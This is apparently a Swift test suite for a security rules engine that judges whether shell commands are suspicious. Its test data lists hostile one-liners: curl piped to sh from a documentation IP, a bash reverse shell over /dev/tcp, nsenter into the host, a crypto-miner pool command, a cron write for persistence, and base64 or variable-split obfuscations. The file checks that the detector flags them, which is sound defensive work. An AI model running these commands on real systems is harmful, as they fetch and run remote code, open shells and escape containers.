import CEL
import JSONView
import Testing

@testable import Rules

@Suite("Judging a command for all rules at once")
struct CommandJudgementTests {
    static let suspicious = [
        "sh -c curl -s http://198.51.100.7/x | sh", "nsenter -t 1 -m -u -i -n sh", "echo aGVsbG8= | base64 -d | bash",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "app -o stratum+tcp://pool.example:3333 -u wallet -p x",
        "echo '* * * * * root x' > /host/etc/cron.d/x",
        // `curl http://198.51.100.7/x|sh` in base64, which no rule would see without looking inside.
        "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3h8c2g=",
        "git clone https://x.example/r && bash r/run.sh", "X=cu; Y=rl; Z=s; $X$Y x.example/a | ${Z}h",
    ]

    @Test("What one of the functions is about is of interest", arguments: suspicious)
    func interesting(_ text: String) throws {
        #expect(judge(text))
    }

    @Test(
        "Ordinary commands and values are not",
        arguments: [
            "", "/bin/app --config=/etc/app/config.yaml", "prod", "8080", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
        ])
    func ordinary(_ text: String) {
        #expect(!judge(text))
    }

    @Test("What is passed over as ordinary digits is what no function would look at")
    func ordinaryDigits() throws {
        var state: UInt64 = 42
        var passed = 0
        for round in 0..<20_000 {
            let length = round % 60
            var text = ""
            while text.count < length {
                state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
                // Half of the bytes are letters, so that some runs are readable text.
                let byte = round.isMultiple(of: 2) ? 0x61 + (state >> 40) % 26 : (state >> 33) & 0xFF
                let digits = String(byte, radix: 16)
                text += digits.count < 2 ? "0" + digits : digits
            }
            text = String(text.prefix(length))
            text.withUTF8 { bytes in
                guard let start = bytes.baseAddress else { return }
                let view = JSONText(start: start, count: bytes.count)
                guard CommandJudgement.isOrdinaryHexadecimal(view) else { return }
                passed += 1
                #expect(Payloads.decoded(view).isEmpty && !Payloads.looksEncoded(view))
            }
        }
        #expect(passed > 5000)
    }

    private func judge(_ text: String) -> Bool {
        var copy = text
        return copy.withUTF8 { bytes in
            bytes.baseAddress.map { CommandJudgement.judge(JSONText(start: $0, count: bytes.count)) } ?? false
        }
    }

    @Test("Every function about commands that rules may ask stands in the list")
    func complete() {
        let judged = RuleFunctions.library(lists: RuleLists()).overloads.map(\.function)
        #expect(CommandJudgement.functions.isSubset(of: judged))
    }
}
